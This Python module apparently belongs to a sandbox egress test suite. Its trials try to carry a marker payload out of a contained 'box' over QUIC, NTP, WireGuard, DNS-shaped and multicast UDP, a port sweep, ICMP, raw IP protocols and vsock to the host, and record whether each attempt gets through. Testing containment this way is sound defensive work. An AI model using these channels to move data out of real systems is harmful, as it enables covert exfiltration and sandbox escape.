"""UDP, ICMP and other protocols, through sockets and by hand."""

import os
import select
import socket
import time

import frames
import names
from core import reached, refused, silent, trial
from talk import outcome_of

ALL = "none allow internet"


def send(box, address, port, data, source_port=0, wait=0.5):
    """A datagram, and what comes of it. The kernel tells a connected socket of a refusal."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            if source_port:
                sender.bind(("", source_port))
            sender.connect((address, port))
            sender.send(data)
            sender.settimeout(wait)
            return reached(repr(sender.recv(200)[:60]))
        except OSError as error:
            return outcome_of(error)


def quic_initial(said):
    """What looks like the first packet of QUIC version 1."""
    head = b"\xc3\0\0\0\x01" + b"\x08" + os.urandom(8) + b"\0\0" + b"\x44\xb0"
    return (head + said + os.urandom(1200 - len(head) - len(said)))


UDP = {
    "quic": ("QUIC", 443, quic_initial),
    "udp": ("UDP", 7777, lambda said: said),
    "ntp": ("NTP", 123, lambda said: b"\x23" + bytes(47) + said),
    "wireguard": ("WireGuard", 51820, lambda said: b"\x01\0\0\0" + said),
    "stun": ("STUN", 3478, lambda said: b"\0\x01\0\0\x21\x12\xa4\x42" + os.urandom(12) + said),
    "dtls": ("DTLS", 4433, lambda said: b"\x16\xfe\xfd" + bytes(10) + said),
    "snmp": ("SNMP", 161, lambda said: b"\x30\x26\x02\x01\x01" + said),
    "mdns-unicast": ("DNS on port 5353", 5353, lambda said: names.question(said.decode(), 1)),
    "large": ("a large datagram, in fragments,", 7777, lambda said: said + bytes(4000)),
}


def udp(name, title, port, make):
    @trial(f"udp-{name}", f"sends {title} to a public address", attack=ALL)
    def send_it(box):
        return send(box, box.public, port, make(box.evil.encode()))


for _name, (_title, _port, _make) in UDP.items():
    udp(_name, _title, _port, _make)


@trial("udp-quic-named", "sends QUIC to where an allowed name lives", attack="allow internet",
       needs="world")
def quic_named(box):
    address = names.address_of(box, "allowed.test")
    if not isinstance(address, str):
        return address
    return send(box, address, 443, quic_initial(box.evil.encode()))


@trial("udp-from-53", "sends UDP from port 53", attack=ALL)
def from_53(box):
    return send(box, box.public, 7777, box.evil.encode(), source_port=53)


@trial("udp-ports", "sends UDP to many ports", attack=ALL, limit=6.0)
def udp_ports(box):
    end, waiting, answered = time.monotonic() + 3, {}, []
    for port in (*range(1, 53), *range(54, 200), 500, 1194, 1900, 4500, 5060, 8080, 33434):
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.connect((box.public, port))
        try:
            sender.send(box.evil.encode())
            waiting[sender.fileno()] = (sender, port)
        except OSError:
            sender.close()
    refused_ones, poll = 0, select.poll()
    for number in waiting:
        poll.register(number, select.POLLIN)
    while waiting and time.monotonic() < end:
        for number, _ in poll.poll(200):
            sender, port = waiting.pop(number)
            try:
                sender.recv(100)
                answered.append(port)
            except OSError:
                refused_ones += 1
            poll.unregister(number)
            sender.close()
    for sender, _ in waiting.values():
        sender.close()
    if answered:
        return reached(f"ports {answered[:10]}")
    # The kernel limits how many refusals it tells: some are enough.
    return refused(f"{refused_ones} told so") if refused_ones else silent()


GROUPS = {"mdns": ("224.0.0.251", 5353), "ssdp": ("239.255.255.250", 1900),
          "llmnr": ("224.0.0.252", 5355), "all-hosts": ("224.0.0.1", 7777),
          "broadcast": ("255.255.255.255", 7777), "netbios": ("169.254.0.23", 137)}


def group(name, address, port):
    @trial(f"group-{name}", f"sends UDP to {address}, port {port}", attack=ALL, quiet=True)
    def send_it(box):
        return send(box, address, port, box.evil.encode(), wait=0.2)


for _name, (_address, _port) in GROUPS.items():
    group(_name, _address, _port)


def answers(data, protocol, payload):
    """Whether an IP packet may be an answer to what was sent. A raw socket also hears the box's other
    connections, the last words of one that has ended among them."""
    if protocol != socket.IPPROTO_TCP:
        return True
    body = data[(data[0] & 15) * 4:]
    return body[:2] == payload[2:4] and body[2:4] == payload[:2]


def raw_send(box, protocol, payload, address=None, wait=0.3):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as raw:
        try:
            address = address or box.public
            raw.connect((address, 0))
            raw.send(payload)
            end = time.monotonic() + wait
            while (left := end - time.monotonic()) > 0:
                raw.settimeout(left)
                # What came before it was connected may be anybody's.
                data = raw.recv(200)
                if data[12:16] == socket.inet_aton(address) and answers(data, protocol, payload):
                    return reached(repr(data[:60]))
            return silent()
        except OSError as error:
            return outcome_of(error)


@trial("icmp-echo", "pings a public address, with words in the ping", attack=ALL, quiet=True)
def ping(box):
    return raw_send(box, socket.IPPROTO_ICMP, frames.icmp(8, box.evil.encode()))


@trial("icmp-echo-named", "pings where an allowed name lives", attack="allow internet", quiet=True,
       needs="world")
def ping_named(box):
    address = names.address_of(box, "allowed.test")
    if not isinstance(address, str):
        return address
    return raw_send(box, socket.IPPROTO_ICMP, frames.icmp(8, box.evil.encode()), address)


@trial("icmp-socket", "pings through an unprivileged socket", attack=ALL, quiet=True)
def ping_socket(box):
    try:
        with open("/proc/sys/net/ipv4/ping_group_range", "w") as file:
            file.write("0 2147483647")
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError as error:
        return outcome_of(error)
    with sender:
        try:
            sender.settimeout(0.3)
            sender.sendto(frames.icmp(8, box.evil.encode()), (box.public, 0))
            return reached(repr(sender.recv(200)[:60]))
        except OSError as error:
            return outcome_of(error)


ICMP = {"timestamp": 13, "reply": 0, "redirect": 5, "address-mask": 17, "unreachable": 3}
for _name, _kind in ICMP.items():
    def _make_icmp(name, kind):
        @trial(f"icmp-{name}", f"sends ICMP of type {kind} to a public address", attack=ALL,
               quiet=True)
        def send_it(box):
            return raw_send(box, socket.IPPROTO_ICMP, frames.icmp(kind, box.evil.encode()))
    _make_icmp(_name, _kind)

PROTOCOLS = {"igmp": 2, "ipip": 4, "tcp": 6, "egp": 8, "dccp": 33, "6in4": 41, "rsvp": 46,
             "gre": 47, "esp": 50, "ah": 51, "ospf": 89, "sctp": 132, "udplite": 136,
             "experiment": 253}
for _name, _number in PROTOCOLS.items():
    def _make_raw(name, number):
        @trial(f"raw-{name}", f"sends IP protocol {number} through a raw socket", attack=ALL,
               quiet=True)
        def send_it(box):
            return raw_send(box, number, box.evil.encode().ljust(32, b"\0"), wait=0.1)
    _make_raw(_name, _number)


@trial("vsock-host", "connects to the host over vsock", attack=ALL)
def vsock(box):
    try:
        connection = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    except OSError as error:
        return refused(error.strerror)
    with connection:
        try:
            connection.settimeout(1)
            connection.connect((2, 22))
            connection.sendall(box.evil.encode())
            return reached("connected")
        except TimeoutError:
            return silent()
        except OSError as error:
            return refused(error.strerror)
